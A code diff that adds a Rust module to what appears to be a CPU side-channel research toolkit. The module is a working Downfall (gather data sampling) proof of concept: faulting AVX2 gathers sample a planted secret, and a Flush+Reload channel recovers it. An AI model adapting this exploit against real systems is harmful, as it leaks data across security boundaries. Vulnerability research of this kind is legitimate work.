@@ -0,0 +1,202 @@
+//! Downfall, or gather data sampling. A vector gather that faults is handed
+//! whatever the buffer gathers share with other vector loads on the core
+//! still holds, before the fault is raised, on Intel parts from Skylake to
+//! Tiger Lake. That is the data of recent vector loads, including ones the
+//! hyperthread sibling, or code running before a context switch, made.
+//!
+//! The victim here loads a secret into a `ymm` register, and a gather from
+//! a page with no access samples it back, one 32 bit element at a time.
+//! Microcode with the GDS mitigation makes gathers wait for faults and
+//! nothing leaks.
+
+use libc;
+use std::io;
+use std::ptr;
+
+use channel::Channel;
+use covert::CovertChannel;
+use cpu::{CpuFeatures, CpuModel, Vendor};
+use probe_buf::ProbeBuffer;
+use reader::{allocate_probe_buf, ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+use suppress::{ExceptionSuppressor, Suppression};
+use PAGE_SIZE;
+
+// samples voted on per byte, each decoded from TIMINGS_PER_GUESS faulting
+// gathers
+const ROUNDS: usize = 16;
+
+/// The longest secret that fits in the `ymm` register the victim loads.
+pub const MAX_SECRET_LEN: usize = 32;
+
+// the element each lane of the gather reads, in units of 4 bytes
+static INDICES: [u32; 8] = [0, 1, 2, 3, 4, 5, 6, 7];
+
+/// The family 6 models Intel lists as affected by gather data sampling:
+/// Skylake, Cascade Lake, Cooper Lake, Kaby Lake, Whiskey Lake, Amber Lake,
+/// Comet Lake, Ice Lake, Tiger Lake and Rocket Lake.
+pub const AFFECTED_MODELS: [u32; 14] = [
+    0x4e, 0x5e, 0x55, 0x8e, 0x9e, 0xa5, 0xa6, 0x6a, 0x6c, 0x7d, 0x7e, 0x8c, 0x8d, 0xa7,
+];
+
+/// Whether `model` is one of the parts gather data sampling affects.
+pub fn affected(model: &CpuModel) -> bool {
+    model.vendor == Vendor::Intel && model.family == 6 && AFFECTED_MODELS.contains(&model.model)
+}
+
+// the victim: a vector load of the secret, which passes through the buffer
+// faulting gathers sample
+#[inline(always)]
+unsafe fn load_secret(secret: *const u8) {
+    asm!("vmovdqu ($0), %ymm3" :: "r" (secret) : "ymm3" : "volatile");
+}
+
+// gathers the 8 dwords at the start of base into out. with base faulting,
+// what reaches out before the fault is stale
+#[inline(always)]
+unsafe fn gather(base: *const u8, out: *mut u8) {
+    asm!("
+        vmovdqu ($1), %ymm2
+        vpcmpeqd %ymm1, %ymm1, %ymm1
+        vpxor %ymm0, %ymm0, %ymm0
+        vpgatherdd %ymm1, ($0, %ymm2, 4), %ymm0
+        vmovdqu %ymm0, ($2)
+        "
+        :
+        : "r" (base), "r" (INDICES.as_ptr()), "r" (out)
+        : "ymm0", "ymm1", "ymm2", "memory"
+        : "volatile");
+}
+
+/// Leaks a secret the calling thread loads into a vector register, by
+/// sampling it with faulting gathers, and receives through a Flush+Reload
+/// cache side channel.
+pub struct GatherSampler<S: ExceptionSuppressor = Suppression> {
+    suppressor: S,
+    receiver: Receiver,
+    // a page with no access, which every gather faults on
+    faulting: *const u8,
+    // the victim's secret, at the start of a page
+    secret: ProbeBuffer,
+    len: usize,
+}
+
+impl GatherSampler {
+    /// Creates a sampler using the best suppression strategy this CPU
+    /// supports.
+    pub fn new(secret: &[u8]) -> io::Result<GatherSampler> {
+        GatherSampler::with_suppressor(Suppression::detect(), secret)
+    }
+}
+
+impl<S: ExceptionSuppressor> GatherSampler<S> {
+    /// Puts `secret`, at most `MAX_SECRET_LEN` bytes of it, where the victim
+    /// loads it from, prepares the given fault suppressor, and calibrates
+    /// the cache hit threshold. Fails without AVX2, which has the gathers.
+    pub fn with_suppressor(suppressor: S, secret: &[u8]) -> io::Result<GatherSampler<S>> {
+        if !CpuFeatures::detect().avx2 {
+            return Err(io::Error::new(
+                io::ErrorKind::Other,
+                "this CPU has no AVX2 gathers",
+            ));
+        }
+        if secret.len() > MAX_SECRET_LEN {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                format!("the secret has to fit in {} bytes", MAX_SECRET_LEN),
+            ));
+        }
+        suppressor.install()?;
+        let channel = Channel::Page;
+        let probe_buf = allocate_probe_buf(&suppressor, channel, false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+        let secret_buf = ProbeBuffer::private(PAGE_SIZE, false)?;
+        unsafe {
+            ptr::copy_nonoverlapping(
+                secret.as_ptr(),
+                secret_buf.as_ptr() as *mut u8,
+                secret.len(),
+            )
+        };
+        let faulting = unsafe {
+            libc::mmap(
+                ptr::null_mut(),
+                PAGE_SIZE,
+                libc::PROT_NONE,
+                libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
+                -1,
+                0,
+            )
+        };
+        if faulting == libc::MAP_FAILED {
+            return Err(io::Error::last_os_error());
+        }
+        Ok(GatherSampler {
+            suppressor,
+            receiver,
+            faulting: faulting as *const u8,
+            secret: secret_buf,
+            len: secret.len(),
+        })
+    }
+
+    pub fn suppressor(&self) -> &S {
+        &self.suppressor
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// The address of the secret the victim loads.
+    pub fn secret_addr(&self) -> *const u8 {
+        self.secret.as_ptr()
+    }
+
+    /// Leaks the byte at `offset` into the secret from the result of a
+    /// faulting gather made right after the victim loads it.
+    pub fn guess_byte(&self, offset: usize) -> ByteGuess {
+        assert!(offset < MAX_SECRET_LEN);
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+        let secret = self.secret.as_ptr();
+        let faulting = self.faulting;
+        let mut gathered = [0u8; MAX_SECRET_LEN];
+        let out = gathered.as_mut_ptr();
+
+        let mut hit_counts = [0usize; 256];
+        for _ in 0..ROUNDS {
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    channel.prepare(1);
+                    load_secret(secret);
+                    {
+                        let channel = &channel;
+                        self.suppressor.suppress(#[inline(always)]
+                        || {
+                            gather(faulting, out);
+                            channel.encode(0, out.add(offset).read_volatile())
+                        });
+                    }
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// Leaks the whole secret.
+    pub fn guess_secret(&self) -> Vec<ByteGuess> {
+        (0..self.len).map(|offset| self.guess_byte(offset)).collect()
+    }
+}
+
+impl<S: ExceptionSuppressor> Drop for GatherSampler<S> {
+    fn drop(&mut self) {
+        unsafe { libc::munmap(self.faulting as *mut libc::c_void, PAGE_SIZE) };
+    }
+}